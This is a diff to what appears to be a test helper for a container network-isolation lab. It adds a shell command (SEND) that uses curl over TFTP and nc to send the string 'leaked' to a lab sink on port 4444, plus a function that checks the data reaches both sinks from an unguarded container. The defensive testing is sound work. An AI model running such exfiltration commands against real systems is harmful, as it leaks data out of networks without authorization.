@@ -16,11 +16,26 @@ from .processes import wait_until
 ATTACKS = Path(__file__).resolve().parents[1] / "attacks"
 WITH_ATTACKS = tuple(word for bind in (*MACHINE_BINDS, f"{ATTACKS}:/attacks:ro") for word in ("--volume", bind))
 """Options of containers of :data:`lab.engine.MACHINE` that have the machine's own programs, and the attacks."""
-
-
 NEIGHBOUR = "10.90.0.20"
+"""The address of the container that is in a :func:`user_defined_network`."""
 ADDRESS = "{{range .NetworkSettings.Networks}}{{.IPAddress}}{{end}}"
 """What :meth:`lab.engine.Engine.inspect` is asked for the address of a container of one network."""
+SEND = f"curl -s -m 1 tftp://{plan.SINK4}:4444/leaked; echo leaked | nc -w 1 {plan.SINK4} 4444"
+"""A shell's words that send to sinks, as a datagram and over TCP."""
+
+
+def show_leak(internet: Internet, docker: Engine, *command: str) -> None:
+    """Shows that :data:`SEND`, of which the command is made, reaches both sinks from a container that nobody guards."""
+    free = docker.docker("run", "--detach", "--cap-drop", "ALL", IMAGE, *command)
+    services: set[str] = set()
+
+    def arrived() -> bool:
+        services.update(arrival.service for arrival in internet.sinks.arrivals() if "leaked" in arrival.data)
+        return services == {"tcp-sink", "udp-sink"}
+
+    wait_until(arrived, "what is sent where nobody guards", 30)
+    docker.docker("rm", "--force", free)
+    internet.forget()
 
 
 def ask_dockers_resolver(docker: Engine, container: str, holder: str, name: str) -> dict[str, str]:
